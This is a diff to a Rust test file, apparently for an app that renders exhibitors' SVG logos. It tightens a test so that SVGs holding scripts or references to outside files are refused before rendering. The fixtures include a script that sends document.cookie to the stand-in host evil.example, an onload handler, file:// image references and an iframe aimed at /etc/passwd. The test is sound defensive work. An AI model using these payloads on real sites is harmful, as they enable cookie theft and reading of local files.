@@ -127,56 +127,42 @@ fn red_png() -> Vec<u8> {
 }
 
 #[tokio::test]
-async fn logos_with_scripts_and_external_images_render_safely() {
-    let catalogue = fixture_catalogue();
-    let png_path = catalogue.path().join("red.png");
+async fn logos_with_scripts_or_external_images_are_refused_before_rendering() {
+    let png_folder = tempfile::tempdir().unwrap();
+    let png_path = png_folder.path().join("red.png");
     fs::write(&png_path, red_png()).unwrap();
-    let hostile = format!(
-        r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 640 160">
+    let scripted = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 160">
   <script>fetch('https://evil.example/?c=' + document.cookie)</script>
   <rect x="0" y="0" width="200" height="160" fill="#00aa00" onload="alert(1)"/>
-  <image x="200" y="0" width="440" height="160" href="file://{path}"/>
-  <image x="200" y="0" width="440" height="160" xlink:href="{path}"/>
-  <image x="200" y="0" width="440" height="160" href="../red.png"/>
-  <foreignObject x="0" y="0" width="640" height="160"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd"/></foreignObject>
+</svg>"##;
+    let external = format!(
+        r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 640 160">
+  <rect x="0" y="0" width="200" height="160" fill="#00aa00"/>
+  <image x="200" y="0" width="440" height="160" xlink:href="file://{path}"/>
 </svg>"##,
         path = png_path.display()
     );
-    write_profile(
-        catalogue.path(),
-        "sneaky-logo",
-        "Sneaky Logo",
-        Some(&hostile),
-    );
-
-    let app = spawn_app_with(catalogue)
-        .await
-        .map_err(|(e, _)| e)
-        .expect("a hostile logo still imports");
-    let snapshot: HallSnapshot =
-        serde_json::from_slice(&app.get("/api/v1/hall").await.body).unwrap();
-    let logo = app
-        .get(&snapshot.exhibitor("sneaky-logo").unwrap().logo_url)
-        .await;
-    assert_eq!(logo.header("content-type"), "image/png");
-    let pixmap = Pixmap::decode_png(&logo.body).unwrap();
-    let pixels = pixmap.pixels();
-    assert!(
-        pixels.iter().any(|p| p.green() > 100 && p.red() < 50),
-        "the safe part is drawn"
-    );
-    assert!(
-        !pixels
-            .iter()
-            .any(|p| p.red() > 200 && p.green() < 50 && p.alpha() > 200),
-        "an image file was read"
-    );
+    for (slug, logo, expected) in [
+        ("sneaky-logo", scripted.to_owned(), "active content"),
+        ("peeking-logo", external, "outside the file"),
+    ] {
+        let catalogue = fixture_catalogue();
+        write_profile(catalogue.path(), slug, "Sneaky Logo", Some(&logo));
+        let Err((error, _data)) = spawn_app_with(catalogue).await else {
+            panic!("{slug}: the SVG check must refuse it before resvg reads it");
+        };
+        let report = error.to_string();
+        assert!(
+            report.contains(&format!("{slug}: logo.svg: the SVG")) && report.contains(expected),
+            "{report}"
+        );
+    }
 }
 
 #[tokio::test]
 async fn a_logo_that_draws_nothing_safe_is_refused_with_a_clear_message() {
     let catalogue = fixture_catalogue();
-    let only_image = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 160"><image width="640" height="160" href="data:image/png;base64,iVBORw0KGgo="/></svg>"##;
+    let only_image = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 160"><image width="640" height="160" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="/></svg>"##;
     write_profile(
         catalogue.path(),
         "image-only",
